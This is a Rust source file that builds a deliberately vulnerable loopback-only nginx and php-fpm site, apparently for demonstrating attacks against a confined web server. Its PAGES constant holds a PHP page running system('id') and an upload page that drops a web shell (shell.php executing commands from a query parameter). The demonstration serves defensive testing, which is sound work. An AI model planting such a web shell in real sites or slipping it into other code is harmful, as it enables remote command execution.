//! The site that is attacked in the demonstration and in guests: its pages, the configuration of the
//! two servers, and how they are started. Plain data, the same on this host and in a virtual machine.
//!
//! Everything is in one folder and on loopback. It writes nothing.

pub(crate) mod guest;

use std::ffi::OsString;
use std::path::{Path, PathBuf};

use anyhow::{Context as _, Result};

use crate::host;

/// The user that Debian's web servers run as; what the pages do, they do as this user.
pub(crate) const USER: &str = "www-data";

/// The attacks: the page to ask for, and what it does.
pub(crate) const ATTACKS: [(&str, &str); 2] = [
    ("/id.php", "a page that calls system(\"id\")"),
    (
        "/upload.php",
        "a page that writes shell.php into the document root",
    ),
];

/// The page that is there when nginx is.
pub(crate) const READY_PAGE: &str = "/index.html";

/// The pages of the site: what an attacker would reach through a vulnerable application.
const PAGES: [(&str, &str); 3] = [
    ("index.html", "up\n"),
    ("id.php", "<?php system(\"id\");\n"),
    (
        "upload.php",
        "<?php\n\
         $code = '<?php system($_GET[\"c\"]);';\n\
         echo file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/shell.php', $code), ' bytes';\n",
    ),
];

/// A server's program on this host.
pub(crate) fn find(name: &str) -> Result<PathBuf> {
    host::program(name).with_context(|| format!("there is no {name}: run `cargo xtask setup demo`"))
}

/// A site in a folder, which has to be there, behind a port.
pub(crate) struct Site {
    folder: PathBuf,
    port: u16,
}

impl Site {
    pub(crate) fn new(folder: &Path, port: u16) -> Site {
        Site {
            folder: folder.to_owned(),
            port,
        }
    }

    /// The document root, which has to belong to [`USER`].
    pub(crate) fn root(&self) -> PathBuf {
        self.folder.join("www")
    }

    /// Where php-fpm listens once it is ready.
    pub(crate) fn socket(&self) -> PathBuf {
        self.folder.join("php.sock")
    }

    /// What nginx writes once it listens.
    pub(crate) fn nginx_pid(&self) -> PathBuf {
        self.folder.join("nginx.pid")
    }

    /// The texts of the site, which [`USER`] has to be able to read.
    pub(crate) fn files(&self) -> Vec<(PathBuf, String)> {
        let mut files: Vec<_> = PAGES
            .iter()
            .map(|(name, page)| (self.root().join(name), (*page).to_owned()))
            .collect();
        files.push((self.nginx_configuration(), nginx_conf(self)));
        files.push((self.php_configuration(), php_fpm_conf(self)));
        files
    }

    /// Starts nginx in the foreground.
    pub(crate) fn nginx_arguments(&self) -> Vec<OsString> {
        vec![
            // Without -e the compiled-in log file would be opened first.
            "-e".into(),
            self.folder.join("nginx.log").into(),
            "-p".into(),
            self.folder.clone().into(),
            "-c".into(),
            self.nginx_configuration().into(),
        ]
    }

    /// Starts php-fpm in the foreground.
    pub(crate) fn php_arguments(&self) -> Vec<OsString> {
        vec![
            "--nodaemonize".into(),
            "--no-php-ini".into(),
            "--fpm-config".into(),
            self.php_configuration().into(),
        ]
    }

    fn nginx_configuration(&self) -> PathBuf {
        self.folder.join("nginx.conf")
    }

    fn php_configuration(&self) -> PathBuf {
        self.folder.join("php-fpm.conf")
    }
}

/// nginx in the foreground, with everything it writes in the folder.
fn nginx_conf(site: &Site) -> String {
    let (folder, port) = (site.folder.display(), site.port);
    let (root, socket) = (site.root(), site.socket());
    let (root, socket) = (root.display(), socket.display());
    let pid = site.nginx_pid();
    let pid = pid.display();
    format!(
        "daemon off;
user {USER};
worker_processes 1;
pid {pid};
error_log {folder}/nginx.log;
events {{ worker_connections 64; }}
http {{
    access_log off;
    client_body_temp_path {folder}/body;
    fastcgi_temp_path {folder}/fastcgi;
    proxy_temp_path {folder}/proxy;
    scgi_temp_path {folder}/scgi;
    uwsgi_temp_path {folder}/uwsgi;
    server {{
        listen 127.0.0.1:{port};
        root {root};
        location ~ \\.php$ {{
            fastcgi_pass unix:{socket};
            fastcgi_param REQUEST_METHOD $request_method;
            fastcgi_param QUERY_STRING $query_string;
            fastcgi_param SCRIPT_NAME $fastcgi_script_name;
            fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
            fastcgi_param DOCUMENT_ROOT $document_root;
            fastcgi_param REMOTE_ADDR $remote_addr;
        }}
    }}
}}
"
    )
}

/// php-fpm with the one pool that nginx asks.
fn php_fpm_conf(site: &Site) -> String {
    let (folder, socket) = (site.folder.display(), site.socket());
    let socket = socket.display();
    format!(
        "[global]
pid = {folder}/php-fpm.pid
error_log = /dev/stderr

[www]
user = {USER}
group = {USER}
listen = {socket}
listen.owner = {USER}
listen.group = {USER}
pm = static
pm.max_children = 2
"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn everything_stays_in_the_folder_and_on_loopback() {
        let site = Site::new(Path::new("/somewhere"), 4711);
        let files = site.files();
        assert!(
            files
                .iter()
                .all(|(path, _)| path.starts_with("/somewhere/"))
        );
        let nginx = nginx_conf(&site);
        assert!(
            nginx.contains("listen 127.0.0.1:4711;") && !nginx.contains("/var/"),
            "{nginx}"
        );
        let php = php_fpm_conf(&site);
        assert!(php.contains("listen = /somewhere/php.sock"), "{php}");
    }

    #[test]
    fn every_page_that_is_asked_for_is_there() {
        let site = Site::new(Path::new("/s"), 1);
        let files = site.files();
        for page in ATTACKS.iter().map(|(page, _)| *page).chain([READY_PAGE]) {
            let path = PathBuf::from(format!("/s/www{page}"));
            assert!(files.iter().any(|(file, _)| *file == path), "{page}");
        }
    }
}
